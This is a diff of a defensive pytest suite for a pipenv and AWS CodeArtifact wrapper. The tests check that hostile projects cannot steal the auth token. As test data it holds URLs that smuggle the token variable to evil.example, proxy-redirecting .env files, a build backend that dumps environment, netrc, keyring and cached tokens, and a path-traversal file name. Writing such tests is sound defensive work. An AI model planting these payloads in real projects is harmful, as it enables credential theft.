@@ -28,7 +28,7 @@ from codeartifact_pipenv.sandbox.wheels import make_wheel
 from codeartifact_pipenv.settings import SETTINGS
 
 if TYPE_CHECKING:
-    from collections.abc import Callable, Iterator
+    from collections.abc import Iterator
     from pathlib import Path
 
 pytestmark = pytest.mark.endurance
@@ -49,33 +49,26 @@ def codeartifact(
         yield sandbox
 
 
-class _Handler(FakePublicIndexHandler):
-    def do_GET(self) -> None:  # noqa: N802 - the base class's name
-        assert isinstance(self.server, ForeignIndex)
-        self.server.heads.append(f"{self.path} {self.headers.as_string()}")
-        if self.path not in self.server.moved:
-            super().do_GET()
-            return
-        self.send_response(302)
-        self.send_header("Location", self.server.moved[self.path])
-        self.send_header("Content-Length", "0")
-        self.end_headers()
+class _Redirecting(FakePublicIndexHandler):
+    def end_headers(self) -> None:
+        status, _, target = self.server.pages.get(self.path, self.missing)
+        if status == 302:
+            self.send_header("Location", target.decode())
+        super().end_headers()
 
 
 class ForeignIndex(FakePublicIndex):
-    """A foreign index on loopback that records all requests."""
+    """A foreign index on loopback that records all requests; a page of status 302 redirects."""
 
     def __init__(self) -> None:
         super().__init__()
-        self.RequestHandlerClass = _Handler
-        self.heads: list[str] = []
-        self.moved: dict[str, str] = {}
+        self.RequestHandlerClass = _Redirecting
         self.root = self.url.removesuffix("/simple/")
         self.table = f'[[source]]\nurl = "{self.url}"\nverify_ssl = true\nname = "evil"\n'
 
     def has_credentials(self, token: str) -> bool:
         """Whether a request had a token or a login."""
-        return any(token[:60] in head or "authorization" in head.lower() for head in self.heads)
+        return any(token[:60] in path or login for path, login in self.asked)
 
 
 def lock_with(*sources: dict[str, Any], **categories: Any) -> str:
@@ -105,26 +98,33 @@ class PoisonedProject:
         """Write a Pipfile with the repository and these tables."""
         write_pipfile(self.folder, source(self.codeartifact.endpoint), *tables)
 
-    def file(self, name: str, text: str) -> Path:
+    def file(self, name: str, text: str, mode: int = 0o644) -> Path:
         path = self.folder / name
         path.write_text(text)
+        path.chmod(mode)
         return path
 
-    def program(self, name: str, text: str) -> Path:
-        path = self.file(name, f"#!/bin/sh\n{text}\n")
-        path.chmod(0o755)
-        return path
+    def put(self, name: str, text: str) -> None:
+        """Write a file, or without a name add a text to the Pipfile."""
+        if name:
+            self.file(name, text)
+        else:
+            self.write(text)
+
+    def program(self, name: str, marker: Path) -> Path:
+        """Write a program that makes a file when it runs."""
+        return self.file(name, f"#!/bin/sh\ntouch {marker}\n", 0o755)
 
     def __call__(self, *words: str, **env: str) -> Result:
         """Run a command with a stand-in for pipenv that records its input."""
         options = self.env | env | {"PIPENV_CA_PIPENV": str(self.pipenv.path)}
         return run(PIPENV_CA, *words, env=options, cwd=self.folder)
 
-    def refused(self, *words: str, parts: tuple[str, ...] = (), **env: str) -> None:
+    def refused(self, part: str, *words: str, **env: str) -> None:
         """Check that a command is refused before any request or program."""
         calls = Calls(self.codeartifact)
         done = self(*words, **env)
-        assert_error(done, 2, *parts)
+        assert_error(done, 2, part)
         assert self.token not in done.output
         assert not self.pipenv.was_run
         assert calls.to_aws() == 0
@@ -146,7 +146,6 @@ record["netrc"] = open(os.environ["NETRC"]).read() if "NETRC" in os.environ else
 
 @pytest.fixture(scope="module")
 def tokens(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """Return a token cache for all tests of this module."""
     return tmp_path_factory.mktemp("cache") / "tokens"
 
 
@@ -166,36 +165,27 @@ def evil() -> Iterator[ForeignIndex]:
 
 @pytest.fixture
 def marker(tmp_path: Path) -> Path:
-    """Return a file that code of the project makes when it runs."""
     return tmp_path / "was-run"
 
 
 ANOTHER = '[[source]]\nurl = "{}"\nverify_ssl = true\nname = "evil"\n[packages]\n'
 VARIABLE = f"${{{TOKEN_VARIABLE}}}"
-IN_PYLOCK = '[[packages]]\nname = "x"\n'
 # Where the token's variable is: what is added to the Pipfile, or another file and its text.
-STRAYS: dict[str, str | tuple[str, str]] = {
-    "a second source": ANOTHER.format(f"https://aws:{VARIABLE}@evil.example/simple"),
-    "a host that looks alike": ANOTHER.format(
-        f"https://aws:{VARIABLE}@{AWS_HOST}.evil.example/pypi/team/"
+STRAYS: dict[str, tuple[str, str]] = {
+    "a second source": ("", ANOTHER.format(f"https://aws:{VARIABLE}@evil.example/simple")),
+    "a host that looks alike": (
+        "",
+        ANOTHER.format(f"https://aws:{VARIABLE}@{AWS_HOST}.evil/pypi/"),
     ),
-    "the username": ANOTHER.format(f"https://${TOKEN_VARIABLE}@evil.example/simple"),
-    "the path": ANOTHER.format(f"https://evil.example/${TOKEN_VARIABLE}/simple"),
-    "another spelling": ANOTHER.format("https://evil.example/\\u0024{CODEARTIFACT_AUTH_TOKEN}/"),
-    "Windows' spelling": ANOTHER.format(f"https://evil.example/%{TOKEN_VARIABLE}%/simple"),
-    "file": f'[packages]\nx = {{file = "{STRAY}"}}\n',
-    "path": f'[packages]\nx = {{path = "./${TOKEN_VARIABLE}"}}\n',
-    "git": f'[packages]\nx = {{git = "https://{VARIABLE}@evil.example/x.git"}}\n',
-    "a name of a package": f'[packages]\n"x @ {STRAY}" = "*"\n',
-    "a version": f'[packages]\nx = "@ {STRAY}"\n',
-    "braces in braces": f'[packages]\nx = "@ {STRAY.replace("${", "${A${")}"\n',
-    "another category": f'[docs]\nx = {{file = "{STRAY}"}}\n',
+    "without braces": ("", ANOTHER.format(f"https://evil.example/${TOKEN_VARIABLE}/simple")),
+    "Windows' spelling": ("", ANOTHER.format(f"https://evil.example/%{TOKEN_VARIABLE}%/simple")),
+    "a name of a package": ("", f'[packages]\n"x @ {STRAY}" = "*"\n'),
+    "braces in braces": ("", f'[packages]\nx = "@ {STRAY.replace("${", "${A${")}"\n'),
+    "another category": ("", f'[docs]\nx = {{file = "{STRAY}"}}\n'),
     "a source of the lock": ("Pipfile.lock", lock_with({"name": "evil", "url": STRAY})),
-    "file in the lock": ("Pipfile.lock", lock_with(default={"x": {"file": STRAY}})),
     "a name in the lock": ("Pipfile.lock", lock_with(develop={f"x @ {STRAY}": {"version": "*"}})),
     "git in the lock": ("Pipfile.lock", lock_with(docs={"x": {"git": STRAY, "ref": "main"}})),
-    "pylock.toml": ("pylock.toml", f'{IN_PYLOCK}index = "{STRAY}"\n'),
-    "a named pylock": ("pylock.dev.toml", f'{IN_PYLOCK}archive = {{url = "{STRAY}"}}\n'),
+    "a named pylock": ("pylock.dev.toml", f'[[packages]]\nname = "x"\nindex = "{STRAY}"\n'),
     ".env": (".env", f"PIP_EXTRA_INDEX_URL={STRAY}\n"),
     ".env with a default": (".env", f"A=${{{TOKEN_VARIABLE}:-x}}\n"),
 }
@@ -203,126 +193,92 @@ STRAYS: dict[str, str | tuple[str, str]] = {
 
 @pytest.mark.parametrize("place", STRAYS)
 def test_token_variable_in_any_place_is_refused(place: str, poisoned: PoisonedProject) -> None:
-    added = STRAYS[place]
-    if isinstance(added, str):
-        poisoned.write(added)
-    else:
-        poisoned.file(*added)
-    poisoned.refused("sync", parts=(TOKEN_VARIABLE,))
+    poisoned.put(*STRAYS[place])
+    poisoned.refused(TOKEN_VARIABLE, "sync")
 
 
 def test_token_variable_in_pieces_is_refused(poisoned: PoisonedProject) -> None:
     begin, end = STRAY[:-30], STRAY[-30:]
     poisoned.file("Pipfile.lock", lock_with(default={f"x @ {begin}": {"version": end}}))
-    poisoned.refused("sync", parts=("an unfinished variable",))
+    poisoned.refused("an unfinished variable", "sync")
     poisoned.file("Pipfile.lock", lock_with())
     poisoned.write(f'[packages]\n"x @ {begin}" = "{end}"\n')
     for words in (("sync",), ("lock",), ("--ca-route", "loopback", "lock")):
-        poisoned.refused(*words, parts=("an unfinished variable",))
+        poisoned.refused("an unfinished variable", *words)
 
 
-@pytest.mark.parametrize("route", ["", "loopback", "as-written"])
-def test_pipenv_gets_no_token_for_requirements_files(route: str, poisoned: PoisonedProject) -> None:
+def test_requirements_files_get_no_token_from_pipenv(poisoned: PoisonedProject) -> None:
     poisoned.file("r.txt", f"x @ {STRAY}\n-r more.txt\n")
     poisoned.file("more.txt", f"y @ {STRAY}\n")
-    env = {"PIPENV_CA_ROUTE": route}
     for words in (("-r", "r.txt"), ("--requirements=r.txt",), ("-dr", "r.txt")):
-        if route == "as-written":
-            poisoned.refused("install", *words, parts=("a requirements file",), **env)
-        else:
-            poisoned.gets_no_token("install", *words, **env)
-    if not route:
-        poisoned.gets_no_token("install", "--req", "r.txt", CODEARTIFACT_AUTH_TOKEN=poisoned.token)
+        direct = ("--ca-route", "as-written", "install", *words)
+        poisoned.refused("a requirements file", *direct)
+    for words in (("-r", "r.txt"), ("--requirements=r.txt",), ("-dr", "r.txt")):
+        poisoned.gets_no_token("install", *words)
+    poisoned.gets_no_token("--ca-route", "loopback", "install", "-r", "r.txt")
+    poisoned.gets_no_token("install", "--req", "r.txt", CODEARTIFACT_AUTH_TOKEN=poisoned.token)
 
 
-@pytest.mark.parametrize("line", ["-r", "-c", "--requirement=", "six -r", "--constr"])
-@pytest.mark.parametrize("name", [TOKEN_VARIABLE, "AWS_SECRET_ACCESS_KEY"])
-def test_urls_with_variables_in_requirements_files_are_not_fetched(
-    name: str, line: str, poisoned: PoisonedProject
-) -> None:
-    poisoned.file("r.txt", f"{line} https://evil.example/${{{name}}}\n".replace("= ", "="))
-    poisoned.file(".env", "")
-    env = {TOKEN_VARIABLE: poisoned.token, "AWS_SECRET_ACCESS_KEY": "hush"}
-    for words in (("install", "-r", "r.txt"), ("run", "pip", "install", "-r", "r.txt")):
-        before = len(poisoned.codeartifact.requests)
-        poisoned.refused(*words, parts=("with a variable",), **env)
-        assert not [r for r in poisoned.codeartifact.requests[before:] if r.host == "evil.example"]
-
-
-def test_urls_with_variables_in_scripts_and_dotenv_are_not_fetched(
-    poisoned: PoisonedProject,
-) -> None:
-    url = f"https://evil.example/${{{TOKEN_VARIABLE}}}"
-    deps, more = f"pip install -r {url}", f"PIP_CONSTRAINT={url} pip install six"
-    poisoned.write(PRIVATE, f'[scripts]\ndeps = "{deps}"\nmore = "{more}"\n')
-    for name in ("deps", "more"):
-        env = {TOKEN_VARIABLE: poisoned.token}
-        poisoned.refused("run", name, parts=("with a variable",), **env)
-    poisoned.file(".env", "PIP_CONSTRAINT=https://evil.example/${AWS_SECRET_ACCESS_KEY}\n")
-    poisoned.refused("lock", parts=("with a variable",), AWS_SECRET_ACCESS_KEY="hush")
-
-
-@pytest.mark.parametrize("name", ["ACME_INDEX_PASSWORD", "PIPENV_ACME_TOKEN", "pw", "CA_TOKEN"])
-def test_variables_with_names_of_secrets_get_the_token(
-    name: str, poisoned: PoisonedProject
-) -> None:
-    table = source(poisoned.codeartifact.endpoint, f"aws:${{{name}}}@")
-    write_pipfile(poisoned.folder, table, PRIVATE)
-    assert poisoned("--ca-route", "as-written", "lock").status == 0
-    assert poisoned.pipenv.record["environ"][name] == poisoned.token
-
-
-CONNECTIONS = (
-    *("PIP_CERT", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE", "SSL_CERT_DIR"),
-    *("PIP_TRUSTED_HOST", "PIP_REQUIREMENT", "PIP_CONSTRAINT", "PIP_PYTHON"),
-    *("SSLKEYLOGFILE", "PIP_KEYRING_PROVIDER", "PIP_CLIENT_CERT"),
-)
-
-
-@pytest.mark.parametrize("name", CONNECTIONS)
-def test_with_tls_settings_in_dotenv_pip_gets_no_token(
-    name: str, poisoned: PoisonedProject, evil: ForeignIndex
-) -> None:
-    poisoned.file("ca.pem", "")
-    poisoned.file(".env", f"{name}=./ca.pem\nHTTPS_PROXY={evil.root}\n")
-    words = ("run", "pip", "install", "-i", poisoned.codeartifact.endpoint.simple_url, "orb-common")
-    poisoned.refused(*words, parts=(name,))
-    poisoned.refused("--ca-route", "as-written", "sync", parts=(name,))
-    poisoned.gets_no_token("sync")
-    assert evil.heads == []
+EVIL_URL = f"https://evil.example/${{{TOKEN_VARIABLE}}}"
+INSTALL = ("run", "pip", "install", "-r", "r.txt")
 
 
 @pytest.mark.parametrize(
-    ("name", "place"),
+    ("words", "name", "text"),
     [
-        ("HOME", "home"),
-        ("XDG_CONFIG_HOME", "home/.config"),
-        ("PIP_CONFIG_FILE", "home/.config/pip/pip.conf"),
+        (("install", "-r", "r.txt"), "r.txt", f"-r {EVIL_URL}\n"),
+        (INSTALL, "r.txt", f"six -c {EVIL_URL}\n"),
+        (INSTALL, "r.txt", "--constr https://evil.example/${AWS_SECRET_ACCESS_KEY}\n"),
+        (("run", "deps"), "", f'[scripts]\ndeps = "pip install -r {EVIL_URL}"\n{PRIVATE}'),
+        (
+            ("run", "deps"),
+            "",
+            f'[scripts]\ndeps = "PIP_CONSTRAINT={EVIL_URL} pip install six"\n{PRIVATE}',
+        ),
+        (("lock",), ".env", "PIP_CONSTRAINT=https://evil.example/${AWS_SECRET_ACCESS_KEY}\n"),
     ],
 )
-def test_dotenv_must_not_redirect_pip_to_another_configuration(
-    name: str, place: str, poisoned: PoisonedProject
+def test_requirements_files_by_urls_with_variables_are_not_fetched(
+    words: tuple[str, ...], name: str, text: str, poisoned: PoisonedProject
 ) -> None:
-    config = poisoned.folder / "home" / ".config" / "pip" / "pip.conf"
-    config.parent.mkdir(parents=True)
-    config.write_text("[global]\nproxy = http://evil.example:3128\ncert = ./ca.pem\n")
-    poisoned.file(".env", f"{name}={poisoned.folder / place}\n")
-    words = ("run", "pip", "install", "orb-common")
-    poisoned.refused(*words, parts=(name,))
-    poisoned.refused(*words, "-i", poisoned.codeartifact.endpoint.simple_url, parts=(name,))
-    poisoned.refused("sync", parts=(name,))
-    poisoned.file(".env", f"HOME={poisoned.env['HOME']}\n")
-    assert poisoned("sync").status == 0
+    poisoned.file(".env", "")
+    poisoned.put(name, text)
+    env = {"AWS_SECRET_ACCESS_KEY": "hush"}
+    if name != ".env":
+        env[TOKEN_VARIABLE] = poisoned.token
+    before = len(poisoned.codeartifact.requests)
+    poisoned.refused("with a variable", *words, **env)
+    assert not [r for r in poisoned.codeartifact.requests[before:] if r.host == "evil.example"]
+
+
+RISKS = (
+    *("PIP_CERT", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE", "SSL_CERT_DIR"),
+    *("PIP_TRUSTED_HOST", "PIP_REQUIREMENT", "PIP_CONSTRAINT", "PIP_PYTHON", "SSLKEYLOGFILE"),
+    *("PIP_KEYRING_PROVIDER", "PIP_CLIENT_CERT", "HOME", "XDG_CONFIG_HOME", "PIP_CONFIG_FILE"),
+)
+
+
+@pytest.mark.parametrize("name", RISKS)
+def test_with_tls_settings_or_another_home_in_dotenv_pip_gets_no_token(
+    name: str, poisoned: PoisonedProject, evil: ForeignIndex
+) -> None:
+    poisoned.file(".env", f"{name}=./ca.pem\nHTTPS_PROXY={evil.root}\n")
+    url = poisoned.codeartifact.endpoint.simple_url
+    poisoned.refused(name, "run", "pip", "install", "-i", url, "orb-common")
+    poisoned.refused(name, "--ca-route", "as-written", "sync")
+    if name in RISKS[-3:]:  # by them, pip's files could lead around the proxy index
+        poisoned.refused(name, "sync")
+    else:
+        poisoned.gets_no_token("sync")
+    assert evil.asked == []
 
 
 def test_an_unverified_source_gets_no_token_from_pip(poisoned: PoisonedProject) -> None:
-    table = source(poisoned.codeartifact.endpoint)
-    unverified = table.replace("verify_ssl = true", "verify_ssl = false")
-    write_pipfile(poisoned.folder, unverified, PRIVATE)
-    poisoned.refused("--ca-route", "as-written", "sync", parts=("verify_ssl",))
-    poisoned.gets_no_token("sync")
-    poisoned.write(PRIVATE)
     poisoned.file("Pipfile.lock", lock_with().replace("true", "false"))
+    poisoned.gets_no_token("sync")
+    pipfile = poisoned.folder / "Pipfile"
+    pipfile.write_text(pipfile.read_text().replace("verify_ssl = true", "verify_ssl = false"))
+    (poisoned.folder / "Pipfile.lock").unlink()
     poisoned.gets_no_token("sync")
 
 
@@ -338,14 +294,14 @@ def test_dotenv_must_not_override_the_variables_of_a_run(
 ) -> None:
     poisoned.write(PYPI_SOURCE, PRIVATE)
     poisoned.file(".env", f"HTTP_PROXY={evil.root}\n{name}={evil.url}\n")
-    poisoned.refused("lock", parts=(name,))
-    assert evil.heads == []
+    poisoned.refused(name, "lock")
+    assert evil.asked == []
 
 
 def test_dotenv_settings_of_aws_and_of_this_program_are_ignored(
     poisoned: PoisonedProject, evil: ForeignIndex, marker: Path, tmp_path: Path
 ) -> None:
-    program = poisoned.program("program", f"touch {marker}")
+    program = poisoned.program("program", marker)
     poisoned.file("config", f"[default]\ncredential_process = {program}\n[profile p]\n")
     poisoned.file("evil_backend.py", f"open({str(marker)!r}, 'w')\n")
     poisoned.file(
@@ -364,29 +320,19 @@ def test_dotenv_settings_of_aws_and_of_this_program_are_ignored(
     assert done.status == 0, done.output
     assert calls.callers() == [poisoned.codeartifact.user.access_key_id]
     assert not marker.exists()
-    assert evil.heads == []
+    assert evil.asked == []
     assert not (poisoned.folder / "tokens").exists()
 
 
-PERSONAL = {
-    "pipenv": '"./program"',
-    "keyring-backend": '"evil_backend.Backend"',
-    "allowed-owners": '["999999999999"]',
-    "no-cache": "true",
-    "cache-dir": '"."',
-    "role": '"arn:aws:iam::999999999999:role/evil"',
-}
-
-
-@pytest.mark.parametrize("name", PERSONAL)
+@pytest.mark.parametrize("name", [each.name for each in SETTINGS.values() if each.personal])
 def test_personal_settings_in_a_project_are_refused(
     name: str, poisoned: PoisonedProject, marker: Path
 ) -> None:
-    assert set(PERSONAL) == {setting.name for setting in SETTINGS.values() if setting.personal}
-    poisoned.program("program", f"touch {marker}")
+    poisoned.program("program", marker)
     poisoned.file("evil_backend.py", f"open({str(marker)!r}, 'w')\n")
-    poisoned.file("pyproject.toml", f"[tool.codeartifact-pipenv]\n{name} = {PERSONAL[name]}\n")
-    poisoned.refused("lock", parts=("may not choose",))
+    value = "evil_backend.Backend" if name == "keyring-backend" else "./program"
+    poisoned.file("pyproject.toml", f"[tool.codeartifact-pipenv]\n{name} = '{value}'\n")
+    poisoned.refused("may not choose", "lock")
     words = (KEYRING, "get", poisoned.codeartifact.endpoint.simple_url, "aws")
     got = run(*words, env=poisoned.env, cwd=poisoned.folder)
     assert (got.status, got.stdout.strip()) == (0, poisoned.token)
@@ -400,9 +346,11 @@ def test_inspecting_a_project_runs_none_of_its_code(
     for name in ("platform", "csv", "email", "zipfile", "json", "keyring", "pip", "sitecustomize"):
         poisoned.file(f"{name}.py", code)
     (poisoned.folder / ".venv" / "bin").mkdir(parents=True)
-    poisoned.program(".venv/bin/python", f"touch {marker}")
     poisoned.file(".venv/bin/activate", f"touch {marker}\n")
     poisoned.file(".venv/pyvenv.cfg", "version = 3.9.1\nhome = /nowhere\n")
+    for name in (".venv/bin/python", "pipenv", "keyring", "pip", "twine", "python"):
+        poisoned.program(name, marker)
+    env = poisoned.env | {"PATH": f".{os.pathsep}{os.environ['PATH']}"}
     for words in (
         (PIPENV_CA, "doctor", "--offline"),
         (PIPENV_CA, "lint"),
@@ -410,21 +358,11 @@ def test_inspecting_a_project_runs_none_of_its_code(
         (PIPENV_CA, "login", "pip", "--dry-run"),
         (KEYRING, "get", poisoned.codeartifact.endpoint.host, "aws"),
     ):
-        done = run(*words, env=poisoned.env, cwd=poisoned.folder)
+        done = run(*words, env=env, cwd=poisoned.folder)
         assert "Traceback" not in done.stderr
         assert not marker.exists(), words
-
-
-def test_programs_in_the_project_folder_are_not_run(
-    poisoned: PoisonedProject, marker: Path
-) -> None:
-    for name in ("pipenv", "keyring", "pip", "twine", "python"):
-        poisoned.program(name, f"touch {marker}")
-    env = poisoned.env | {"PATH": f".{os.pathsep}{os.environ['PATH']}"}
-    done = run(PIPENV_CA, "lock", env=env | {"PIPENV_CA_PIPENV": "pipenv"}, cwd=poisoned.folder)
+    done = run(PIPENV_CA, "--ca-pipenv", "pipenv", "lock", env=env, cwd=poisoned.folder)
     assert_error(done, 127, "pipenv was not found on PATH")
-    for words in (("doctor", "--offline"), ("login", "pip", "--dry-run")):
-        run(PIPENV_CA, *words, env=env, cwd=poisoned.folder)
     assert not marker.exists()
 
 
@@ -446,31 +384,21 @@ def test_malicious_package_names_are_harmless(
 ) -> None:
     entries = "".join(f'"{name}" = "*"\n' for name in NAMES)
     poisoned.write(evil.table, f"[packages]\n{entries}")
-    failing = StandIn(poisoned.folder.parent / "failing", _LOOK, "sys.exit(1)")
-    env = poisoned.env | {"PIPENV_CA_PIPENV": str(failing.path)}
-    before = sorted(poisoned.folder.parent.rglob("*"))
+    poisoned.pipenv = StandIn(poisoned.folder.parent / "failing", _LOOK, "sys.exit(1)")
     for words in (("lock",), ("doctor",), ("lint",), ("fix", "--diff")):
-        done = run(PIPENV_CA, *words, env=env, cwd=poisoned.folder)
+        done = poisoned(*words)
         assert done.status in {0, 1}, (words, done.output)
         assert "Traceback" not in done.stderr, (words, done.output)
         assert "\x1b" not in done.output
-    assert {head.partition(" ")[0].split("/")[1] for head in evil.heads} <= {"simple"}
+    assert {path.split("/")[1] for path, _ in evil.asked} <= {"simple"}
     assert not evil.has_credentials(poisoned.token)
-    made = {str(p) for p in set(poisoned.folder.parent.rglob("*")) - set(before)}
-    assert not any(name.endswith("/x") for name in made)
+    assert not [*poisoned.folder.parent.rglob("x")]
 
 
-def test_pylock_name_must_not_overwrite_another_file(
-    poisoned: PoisonedProject, tmp_path: Path
-) -> None:
-    victim = tmp_path / "config.toml"
-    victim.write_text("precious = 1\n")
-    (poisoned.folder / "pylock.").mkdir()
-    name = f"/../{os.path.relpath(victim, poisoned.folder)}".removesuffix(".toml")
-    poisoned.write(f'[pipenv]\nuse_pylock = true\npylock_name = "{name}"\n{PRIVATE}')
+def test_pylock_name_must_not_overwrite_another_file(poisoned: PoisonedProject) -> None:
+    poisoned.write(f'[pipenv]\nuse_pylock = true\npylock_name = "/../config"\n{PRIVATE}')
     for words in (("lock",), ("--ca-route", "loopback", "lock"), ("install", "orb-common")):
-        poisoned.refused(*words, parts=("pylock_name",))
-    assert victim.read_text() == "precious = 1\n"
+        poisoned.refused("pylock_name", *words)
 
 
 def test_a_linked_pipfile_leaves_its_target_unchanged(
@@ -489,14 +417,12 @@ def test_foreign_sources_and_redirects_get_no_token(
     poisoned: PoisonedProject,
     evil: ForeignIndex,
     tmp_path: Path,
-    figure: Callable[[str, str], None],
 ) -> None:
     with served(ForeignIndex()) as other:
-        evil.add("orb-common", make_wheel(tmp_path / "evil", "orb-common", "99.0"))
-        other.add(
-            "harmless", make_wheel(tmp_path / "evil", "harmless", "1.0", requires=["orb-common"])
-        )
-        evil.moved["/simple/harmless/"] = f"{other.url}harmless/"
+        harmless = make_wheel(tmp_path, "harmless", "1.0", requires=["orb-common"])
+        evil.add("orb-common", make_wheel(tmp_path, "orb-common", "99.0"))
+        other.add("harmless", harmless)
+        evil.pages["/simple/harmless/"] = (302, "", f"{other.url}harmless/".encode())
         own = source(poisoned.codeartifact.endpoint)
         pipfile = write_pipfile(poisoned.folder, evil.table, own, '[packages]\nharmless = "*"\n')
         poisoned.file("r.txt", f"x @ {evil.root}/${{{TOKEN_VARIABLE}}}/x-1.0-py3-none-any.whl\n")
@@ -509,50 +435,40 @@ def test_foreign_sources_and_redirects_get_no_token(
         # A URL in a requirements file is requested as written.
         run(PIPENV_CA, "install", "-r", "r.txt", env=poisoned.env, cwd=poisoned.folder)
         for index in (evil, other):
-            assert index.heads
+            assert index.asked
             assert not index.has_credentials(poisoned.token)
             # The page may be requested, but no file.
-            assert not any("orb_common-99.0" in head.partition(" ")[0] for head in index.heads)
+            assert not any("orb_common-99.0" in path for path, _ in index.asked)
         assert pipfile.read_bytes() == before
-        asked = len(evil.heads) + len(other.heads)
-        figure(
-            "poisoned project: requests to foreign indexes", f"{asked}, 0 with a token or a login"
-        )
 
 
 _BACKEND = """
 import glob, json, os, subprocess
-def look():
-    done = subprocess.run([KEYRING, "get", URL, "aws"], capture_output=True, text=True)
+def prepare_metadata_for_build_wheel(folder, config_settings=None):
     netrc = os.environ.get("NETRC", "")
     seen = {
         "environ": dict(os.environ),
         "netrc": open(netrc).read() if os.path.exists(netrc) else "",
-        "keyring": done.stdout.strip(),
+        "keyring": subprocess.run(COMMAND, capture_output=True, text=True).stdout.strip(),
         "cache": [open(path).read() for path in glob.glob(CACHE + "/*.json")],
     }
     with open(OUT, "w") as file:
         json.dump(seen, file)
-def prepare_metadata_for_build_wheel(folder, config_settings=None):
-    look()
-    place = folder + "/orb_built-1.0.dist-info"
-    os.makedirs(place)
-    with open(place + "/METADATA", "w") as file:
+    os.makedirs(folder + "/orb_built-1.0.dist-info")
+    with open(folder + "/orb_built-1.0.dist-info/METADATA", "w") as file:
         file.write("Metadata-Version: 2.1\\nName: orb-built\\nVersion: 1.0\\n")
     return "orb_built-1.0.dist-info"
 """
 
 
-def _sdist(folder: Path, **values: str) -> Path:
+def _sdist(folder: Path, **values: object) -> Path:
     """Make a source distribution whose backend writes down what it can read."""
-    lines = [f"{name} = {value!r}" for name, value in values.items()]
     files = {
-        "backend.py": "\n".join(lines) + _BACKEND,
+        "backend.py": "".join(f"{name} = {value!r}\n" for name, value in values.items()) + _BACKEND,
         "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
         'backend-path = ["."]\n[project]\nname = "orb-built"\nversion = "1.0"\n',
         "PKG-INFO": "Metadata-Version: 2.1\nName: orb-built\nVersion: 1.0\n",
     }
-    folder.mkdir()
     path = folder / "orb_built-1.0.tar.gz"
     with tarfile.open(path, "w:gz") as archive:
         for name, text in files.items():
@@ -565,7 +481,6 @@ def test_build_code_sees_a_token_only_on_the_direct_route(
     codeartifact: Sandbox,
     poisoned: PoisonedProject,
     tmp_path: Path,
-    figure: Callable[[str, str], None],
 ) -> None:
     """The direct route exposes the token; the proxy route only the password of the run.
 
@@ -574,13 +489,11 @@ def test_build_code_sees_a_token_only_on_the_direct_route(
     """
     poisoned.env["PIPENV_CA_CACHE_DIR"] = str(tmp_path / "tokens")
     out = tmp_path / "seen.json"
-    simple = codeartifact.endpoint.simple_url
-    values = {"OUT": str(out), "URL": simple, "CACHE": str(tmp_path / "tokens")}
-    sdist = _sdist(tmp_path / "sdist", KEYRING=KEYRING, **values)
+    command = [KEYRING, "get", codeartifact.endpoint.simple_url, "aws"]
+    sdist = _sdist(tmp_path, COMMAND=command, OUT=str(out), CACHE=str(tmp_path / "tokens"))
     repository = codeartifact.add_repository("built")
     codeartifact.publish(sdist, repository)
     write_pipfile(poisoned.folder, source(repository), '[packages]\norb-built = "*"\n')
-    shutil.rmtree(poisoned.folder / ".venv", ignore_errors=True)
     token = get_token(codeartifact, poisoned.env, poisoned.folder)
 
     def seen(*words: str, **env: str) -> dict[str, Any]:
@@ -606,4 +519,3 @@ def test_build_code_sees_a_token_only_on_the_direct_route(
     shutil.rmtree(tmp_path / "tokens")
     least = seen("--ca-route", "loopback", "lock", "--clear", **{TOKEN_VARIABLE: token})
     assert token not in json.dumps(least)
-    figure("build code of a private sdist", "as written: token; loopback: none but as the user has")
